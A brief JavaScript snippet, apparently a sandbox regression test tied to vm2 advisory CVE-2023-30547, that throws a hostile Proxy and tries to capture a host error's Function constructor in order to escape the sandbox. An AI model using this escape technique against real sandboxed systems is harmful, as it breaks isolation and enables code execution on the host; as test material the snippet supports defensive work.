// A proxy whose getPrototypeOf trap throws while an error is looked at.
// advisory: CVE-2023-30547 (vm2)
const hostile = new Proxy({}, { getPrototypeOf() { try { null.x; } catch (error) { throw error; } }, get(target, name) { if (name === 'stack') throw { stolen: arguments }; return target[name]; } });
try { throw hostile; } catch (caught) { try { caught instanceof Error; Object.getPrototypeOf(caught); } catch (error) { reach(error.constructor.constructor); } }
console.log('ATTEMPTED');
throw hostile;
